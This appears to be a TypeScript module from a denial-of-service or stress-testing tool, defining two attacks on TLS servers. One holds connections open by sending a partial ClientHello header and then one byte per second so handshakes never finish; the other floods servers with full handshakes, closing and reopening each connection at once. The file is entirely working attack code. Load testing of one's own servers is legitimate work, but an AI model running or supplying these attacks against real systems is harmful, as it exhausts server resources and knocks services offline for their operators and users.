import type { Attacker } from '../lib/attacker.ts';
import { type ConnectionOptions, keepConnections, writeEvery } from '../lib/connections.ts';

/** The head of a TLS record with a ClientHello of 512 bytes, of which the rest comes one byte a second (RFC 8446 §4.1.2). */
const HELLO_HEAD = Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]);
const BYTE_MS = 1000;

/** Connections whose TLS handshake never ends. */
export const halfHandshakes =
  (options: Omit<ConnectionOptions, 'secure'>): Attacker =>
  (context) =>
    keepConnections(context, { ...options, secure: false }, (socket, signal) => {
      socket.write(HELLO_HEAD);
      writeEvery(BYTE_MS, socket, { signal, bytes: Buffer.alloc(1) });
      socket.resume();
    });

/** Whole TLS handshakes, each connection closed at once. */
export const handshakeFlood =
  (options: Omit<ConnectionOptions, 'secure'>): Attacker =>
  (context) =>
    keepConnections(context, { ...options, secure: true, endIsRefusal: false, reopenMs: 0 }, (socket) => {
      socket.destroy();
    });
